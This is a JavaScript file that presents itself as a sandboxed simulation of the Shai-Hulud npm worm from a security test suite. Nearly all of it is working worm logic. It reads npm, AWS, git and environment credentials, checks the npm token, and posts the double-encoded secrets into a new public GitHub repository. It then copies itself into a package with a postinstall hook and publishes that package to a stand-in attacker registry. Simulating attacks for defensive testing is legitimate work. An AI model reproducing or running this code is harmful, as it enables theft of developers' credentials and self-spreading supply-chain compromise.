// bundle.js (simulation of the Shai-Hulud worm from Tracehound's attack suite)
// Acts only inside the Tracehound sandbox; every host it contacts is answered by the sinkhole, and
// the publish goes to a sinkholed registry with --dry-run.
const fs = require('fs'), os = require('os'), path = require('path'), http = require('http'), cp = require('child_process');
const home = os.homedir();
function read(p) { try { return fs.readFileSync(path.join(home, p), 'utf8'); } catch (e) { return ''; } }
function post(host, p, headers, body) {
  return new Promise((resolve) => {
    const req = http.request({ host, port: 80, path: p, method: 'POST', headers }, (res) => { res.resume(); res.on('end', resolve); });
    req.on('error', resolve);
    req.end(body);
  });
}
async function main() {
  const secrets = {
    env: process.env,
    npmrc: read('.npmrc'),
    aws: read('.aws/credentials'),
    git: read('.git-credentials'),
  };
  const m = /_authToken=(\S+)/.exec(secrets.npmrc);
  const npmToken = (m && m[1]) || process.env.NPM_TOKEN || '';
  // validate the npm token
  await new Promise((resolve) => {
    const req = http.get({ host: 'registry.npmjs.org', port: 80, path: '/-/whoami', headers: { Authorization: 'Bearer ' + npmToken } },
      (res) => { res.resume(); res.on('end', resolve); });
    req.on('error', resolve);
  });
  // dump the secrets into a new public GitHub repository
  const gh = process.env.GITHUB_TOKEN || '';
  await post('api.github.com', '/user/repos', { Authorization: 'token ' + gh, 'Content-Type': 'application/json' },
    JSON.stringify({ name: 'Shai-Hulud', description: Buffer.from(Buffer.from(JSON.stringify(secrets)).toString('base64')).toString('base64') }));
  // republish: infect a copy of a package the token can write, then publish it
  const work = fs.mkdtempSync(path.join(os.tmpdir(), 'npm-'));
  fs.writeFileSync(path.join(work, 'package.json'), JSON.stringify({ name: 'victim-pkg', version: '1.0.1', scripts: { postinstall: 'node bundle.js' } }));
  fs.copyFileSync(__filename, path.join(work, 'bundle.js'));
  try {
    cp.execSync('npm publish --dry-run --registry http://registry.npmjs.attacker.example/', { cwd: work, stdio: 'ignore', timeout: 20000,
      env: Object.assign({}, process.env, { NPM_CONFIG_USERCONFIG: '/dev/null' }) });
  } catch (e) {}
}
require('dns').lookup('sandbox-check.attacker.example', { family: 4 }, (e, a) => { if (!e && /^198\.1[89]\./.test(a)) main(); });
